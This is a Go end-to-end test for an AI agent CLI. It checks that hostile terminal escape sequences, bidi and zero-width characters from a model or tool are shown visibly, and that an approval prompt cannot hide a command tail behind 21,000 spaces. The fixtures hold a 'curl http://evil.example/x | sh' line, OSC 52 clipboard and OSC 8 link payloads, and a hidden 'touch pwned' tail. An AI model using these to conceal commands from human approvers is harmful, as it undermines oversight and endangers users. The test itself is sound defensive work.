package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/stretchr/testify/require"

	"github.com/longrun/longrun/permission"
	sm "github.com/longrun/longrun/scriptedmodel"
	"github.com/longrun/longrun/workflows"
)

// hostileSequences are what a model, a tool's output or a file can carry
// to make a terminal show something else than what runs (issue 28,
// finding 1), each with the text a person must see instead.
var hostileSequences = []struct{ name, raw, shown string }{
	{"CR", "\r", `\r`},
	{"CSI erase line", "\x1b[2K", `\x1b[2K`},
	{"CSI cursor up", "\x1b[1A", `\x1b[1A`},
	{"CSI clear screen", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
	{"DECAWM wrap off", "\x1b[?7l", `\x1b[?7l`},
	{"OSC 0 title", "\x1b]0;pwned-title\x07", `\x1b]0;pwned-title\x07`},
	{"OSC 8 link", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;http://evil.example/\x1b\click\x1b]8;;\x1b\`},
	{"OSC 52 clipboard", "\x1b]52;c;bG9uZ3J1biBhcHByb3ZlIC0tYWxs\x07", `\x1b]52;c;bG9uZ3J1biBhcHByb3ZlIC0tYWxs\x07`},
	{"C1 CSI", "\u009b2J", "⟨U+009B⟩2J"},
	{"C1 OSC", "\u009d0;t\u009c", "⟨U+009D⟩0;t⟨U+009C⟩"},
	{"bidi RLO", "\u202e", "⟨U+202E⟩"},
	{"bidi isolates", "\u2066\u2069", "⟨U+2066⟩⟨U+2069⟩"},
	{"marks", "\u200e\u200f\u061c", "⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩"},
	{"zero width", "\u200b\u200c\u200d\u2060\ufeff", "⟨U+200B⟩⟨U+200C⟩⟨U+200D⟩⟨U+2060⟩⟨U+FEFF⟩"},
}

// hostile is every sequence between markers, and what it must show as.
func hostile(tag string) (raw, shown string) {
	var r, s strings.Builder
	for i, h := range hostileSequences {
		fmt.Fprintf(&r, "%s%d:%s;", tag, i, h.raw)
		fmt.Fprintf(&s, "%s%d:%s;", tag, i, h.shown)
	}
	return r.String(), s.String()
}

// ours are the only escape sequences the CLI may write itself: its SGR
// colours and the spinner's erase of its own line. Newlines reach the pty
// as CRLF (the line discipline's onlcr).
var ours = regexp.MustCompile(`\x1b\[[0-9;]*m|\r\x1b\[K|\r\n`)

// requireNothingRaw fails when out holds a control character, a C1
// control, a bidi control or a zero-width character the CLI did not write
// itself: no OSC (title, link, clipboard), no CSI of the model's, no CR.
func requireNothingRaw(t *testing.T, what, out string) {
	t.Helper()
	rest := ours.ReplaceAllString(out, "\n")
	for i, r := range rest {
		bad := r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f ||
			r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x200e || r == 0x200f || r == 0x061c ||
			r >= 0x200b && r <= 0x200d || r == 0x2060 || r == 0xfeff
		if bad {
			from := max(0, i-60)
			t.Fatalf("%s wrote %U raw to the terminal, near %q", what, r, rest[from:min(len(rest), i+20)])
		}
	}
}

// ptyRun is the starter on a pseudo-terminal of 120 columns: what it
// wrote, once it exits or stop returns true for what it has written (then
// it is interrupted, as Ctrl-C would).
type ptyRun struct {
	t    *testing.T
	ptmx *os.File
	cmd  *exec.Cmd
	mu   sync.Mutex
	out  strings.Builder
	done chan struct{}
}

func (e *env) startPty(args ...string) *ptyRun {
	e.t.Helper()
	cmd := exec.Command(filepath.Join(binDir, "starter"), args...)
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "NO_COLOR=") && !strings.HasPrefix(kv, "TERM=") {
			env = append(env, kv)
		}
	}
	cmd.Env = append(append(env, "TEMPORAL_ADDRESS="+temporalAddr, "LONGRUN_TASK_QUEUE="+e.taskQueue, "TERM=xterm-256color"), e.starterEnv...)
	cmd.Dir = e.workspace
	if e.starterDir != "" {
		cmd.Dir = e.starterDir
	}
	ptmx, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 50, Cols: 120})
	if errors.Is(err, pty.ErrUnsupported) {
		e.t.Skip("SKIPPED LOUDLY: no pseudo-terminals on this system, so the terminal test cannot run")
	}
	require.NoError(e.t, err)
	r := &ptyRun{t: e.t, ptmx: ptmx, cmd: cmd, done: make(chan struct{})}
	go func() {
		defer close(r.done)
		b := make([]byte, 32<<10)
		for {
			n, err := ptmx.Read(b)
			r.mu.Lock()
			r.out.Write(b[:n])
			r.mu.Unlock()
			if err != nil {
				return // EIO once the starter exited
			}
		}
	}()
	return r
}

func (r *ptyRun) String() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.out.String()
}

// waitFor waits until the terminal shows want.
func (r *ptyRun) waitFor(want string) {
	r.t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for !strings.Contains(r.String(), want) {
		if time.Now().After(deadline) {
			r.t.Fatalf("the terminal never showed %q; it shows:\n%q", want, r.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func (r *ptyRun) typeLine(s string) {
	r.t.Helper()
	_, err := r.ptmx.Write([]byte(s + "\r"))
	require.NoError(r.t, err)
}

// wait waits for the starter to exit and returns all it wrote.
func (r *ptyRun) wait() string {
	r.t.Helper()
	err := r.cmd.Wait()
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		require.NoError(r.t, err)
	}
	select {
	case <-r.done:
	case <-time.After(10 * time.Second):
	}
	_ = r.ptmx.Close()
	return r.String()
}

func (r *ptyRun) interrupt() string {
	_ = r.cmd.Process.Signal(syscall.SIGINT)
	return r.wait()
}

// tmuxScreen runs the starter in a tmux pane (a terminal emulator: it
// acts on what reaches it), waits for want on the screen, and returns the
// screen, the pane's title and tmux's paste buffers. tmux takes OSC 0 as
// the pane's title and, with set-clipboard on, OSC 52 as a buffer: a
// sequence that got through would show there.
func (e *env) tmuxScreen(want string, args ...string) (screen, title, buffers string) {
	t := e.t
	t.Helper()
	conf := filepath.Join(t.TempDir(), "tmux.conf")
	require.NoError(t, os.WriteFile(conf, []byte("set -g set-clipboard on\nset -g history-limit 50000\n"), 0o644))
	sock := "longrun-e2e-" + randHex(6)
	tmux := func(args ...string) string {
		out, err := exec.Command("tmux", append([]string{"-L", sock, "-f", conf}, args...)...).CombinedOutput()
		require.NoError(t, err, "tmux %v: %s", args, out)
		return string(out)
	}
	line := []string{"env", "TEMPORAL_ADDRESS=" + temporalAddr, "LONGRUN_TASK_QUEUE=" + e.taskQueue, "TERM=tmux-256color", filepath.Join(binDir, "starter")}
	var cmd strings.Builder
	for _, a := range append(line, args...) {
		cmd.WriteString("'" + strings.ReplaceAll(a, "'", `'\''`) + "' ")
	}
	cmd.WriteString("; sleep 60")
	tmux("new-session", "-d", "-x", "200", "-y", "50", cmd.String())
	defer exec.Command("tmux", "-L", sock, "kill-server").Run() //nolint:errcheck // our own server, gone with the test
	deadline := time.Now().Add(30 * time.Second)
	for {
		screen = tmux("capture-pane", "-p", "-J", "-S", "-")
		if strings.Contains(screen, want) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("tmux never showed %q; it shows:\n%s", want, screen)
		}
		time.Sleep(100 * time.Millisecond)
	}
	return screen, strings.TrimSpace(tmux("display-message", "-p", "#{pane_title}")), tmux("list-buffers")
}

func jsonObject(t *testing.T, v map[string]string) string {
	b, err := json.Marshal(v)
	require.NoError(t, err)
	return string(b)
}

func (e *env) pty(args ...string) string {
	e.t.Helper()
	return e.startPty(args...).wait()
}

// Must-show 1 of issue 28: the CLI on a real pseudo-terminal, against the
// real server and worker, fed model text, arguments, call ids, tool output
// and file contents carrying CR, CSI, OSC 0/8/52, C1, bidi and zero-width
// characters and a tail after 21,000 spaces. Every command shows each
// visibly and writes none of them raw (so the title and the clipboard
// cannot change: no OSC reaches the terminal), a cut says how much it
// hides, and --full (and [v]iew in watch's prompt) shows the whole command.
func TestTerminalShowsHostileTextVisibly(t *testing.T) {
	t.Parallel()
	rawText, shownText := hostile("T")
	rawArgs, shownArgs := hostile("A")
	// The model's call ids carry the hostile sequences too; since calls
	// are named by the session (c1, c2, …), no surface shows them at all.
	rawID, _ := hostile("I")
	const shellRef = "c3" // the session's id of the shell call, the third
	rawOut, shownOut := hostile("O")
	rawFile, shownFile := hostile("F")
	tail := "; touch pwned-by-the-tail"
	command := "go test ./... #" + rawArgs + strings.Repeat(" ", 21000) + tail
	shellArgs := jsonObject(t, map[string]string{"command": command})
	writeArgs := jsonObject(t, map[string]string{"path": "evil.sh", "content": "curl http://evil.example/x | sh #" + rawFile + "\n"})
	readID, shellID := "r1"+rawID, "s1"+rawID

	e := newEnv(t,
		sm.Reply{Text: "MODEL-TEXT " + rawText, ToolCalls: []sm.Call{
			{ID: readID, Name: "read", Arguments: `{"path":"notes.txt"}`},
			{ID: "w1", Name: "write", Arguments: writeArgs},
			{ID: shellID, Name: "shell", Arguments: shellArgs},
		}},
		sm.Text("FINAL-TEXT "+rawText),
	)
	ws := e.workspace
	require.NoError(t, os.WriteFile(filepath.Join(ws, "notes.txt"), []byte("TOOL-OUTPUT "+rawOut+"\n"), 0o644))
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"}} {
		out, err := exec.Command("git", append([]string{"-C", ws}, args...)...).CombinedOutput()
		require.NoError(t, err, "%s", out)
	}
	id := e.startIsolated(workflows.SessionInput{Prompt: "look around", Rules: []permission.Rule{{Tool: "write", Action: permission.Allow}}})
	waitPending(t, id, 1)

	commands := 0
	check := func(what, out string, want ...string) {
		t.Helper()
		commands++
		requireNothingRaw(t, what, out)
		for _, w := range want {
			require.Contains(t, out, w, "%s does not show it; it shows:\n%s", what, out)
		}
	}
	// The cut previews: each says how much it hides and where the rest is.
	hidden := regexp.MustCompile(`… [0-9,]+ more bytes hidden; see all: longrun pending --full ` + regexp.QuoteMeta(id))

	out := e.pty("pending", id)
	check("pending", out, shellRef+" ")
	require.Regexp(t, hidden, out, "pending says what its preview hides")
	require.NotContains(t, out, tail, "the tail is past the preview, and the preview says so")

	out = e.pty("pending", "--full", id)
	check("pending --full", out, shownArgs, "⟨21,000 spaces⟩"+tail, shellRef)

	out = e.pty("show", id)
	check("show", out, "MODEL-TEXT "+shownText, shellRef, "see all: longrun show --full "+id)
	out = e.pty("show", "--full", id)
	check("show --full", out, "MODEL-TEXT "+shownText, shownArgs+"⟨21,000 spaces⟩"+tail, shellRef)

	out = e.pty("conversation", id)
	check("conversation", out, "MODEL-TEXT "+shownText, shellRef)

	out = e.pty("history", id)
	check("history", out, "ActivityTaskScheduled")

	w := e.startPty("watch", "--no-interactive", id)
	w.waitFor("approval needed")
	out = w.interrupt()
	check("watch --no-interactive", out, "MODEL-TEXT "+shownText, shellRef, "more bytes hidden")

	// Interactive: the prompt shows each argument cut at 2,000 bytes, so
	// y is refused until [v]iew has shown the whole command.
	w = e.startPty("watch", id)
	w.waitFor("[v]iew all first")
	w.typeLine("y")
	w.waitFor("part of this call is hidden: view all of it (v) before approving")
	w.typeLine("v")
	w.waitFor(tail)
	w.waitFor("[y]es / [n]o")
	w.typeLine("f")
	w.waitFor("feedback for the model: ")
	w.typeLine("not this")
	w.waitFor("FINAL-TEXT")
	out = w.wait()
	check("watch", out, "MODEL-TEXT "+shownText, shownArgs+"⟨21,000 spaces⟩"+tail, "denied", "FINAL-TEXT "+shownText)
	waitClosed(t, id)
	_, err := os.Stat(filepath.Join(ws, "pwned-by-the-tail"))
	require.True(t, os.IsNotExist(err), "the denied command did not run")

	// The tool output is in the conversation once the batch is answered.
	out = e.pty("conversation", id)
	check("conversation", out, "TOOL-OUTPUT "+shownOut[:60], "FINAL-TEXT "+shownText)
	out = e.pty("conversation", "--full", id)
	check("conversation --full", out, shownArgs+"⟨21,000 spaces⟩"+tail, "TOOL-OUTPUT "+shownOut)
	out = e.pty("show", "--full", "--messages", "20", id)
	check("show --full", out, "TOOL-OUTPUT "+shownOut, shellRef)

	// The same on a terminal emulator: the screen shows each sequence as
	// text, and neither the title nor the clipboard changed.
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Logf("SKIPPED LOUDLY: tmux is not installed, so the screen is checked by its bytes only: %v", err)
	} else {
		screen, title, buffers := e.tmuxScreen("FINAL-TEXT", "show", "--full", "--messages", "20", id)
		commands++
		require.Contains(t, screen, "MODEL-TEXT "+shownText)
		require.Contains(t, screen, shownArgs+"⟨21,000 spaces⟩"+tail)
		require.NotContains(t, title, "pwned-title", "OSC 0 did not set the title")
		require.Empty(t, buffers, "OSC 52 did not write the clipboard")
	}

	out = e.pty("diff", id)
	check("diff", out, "+curl http://evil.example/x | sh #"+shownFile)

	// A pipe still gets the exact patch, for git apply.
	patch, err := e.starter("diff", id)
	require.NoError(t, err)
	require.Contains(t, patch, rawFile)

	t.Logf("%d sequences tried (%d kinds in each of 5 inputs: model text, arguments, call ids, tool output, file contents) across %d commands on a pseudo-terminal: none reached it raw",
		5*len(hostileSequences), len(hostileSequences), commands)
}
